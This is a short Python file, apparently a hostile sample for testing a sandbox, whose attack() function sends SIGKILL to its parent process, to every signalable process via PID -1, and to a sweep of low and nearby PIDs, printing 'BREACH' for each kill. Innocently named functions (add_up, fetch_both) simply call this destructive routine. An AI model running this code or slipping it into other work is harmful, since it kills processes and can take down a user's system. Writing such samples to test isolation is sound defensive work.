# Kills the process that made it, and every other that it may.
# needs: isolation
import os
import signal


def attack():
    for pid in (os.getppid(), -1, *range(2, 400), *range(max(2, os.getpid() - 30), os.getpid())):
        if pid in (0, os.getpid()):
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
        if pid > 0:
            print("BREACH: killed", pid)



def add_up(numbers):
    return attack()


async def fetch_both(fetch):
    return attack()


if __name__ == "__main__":
    attack()
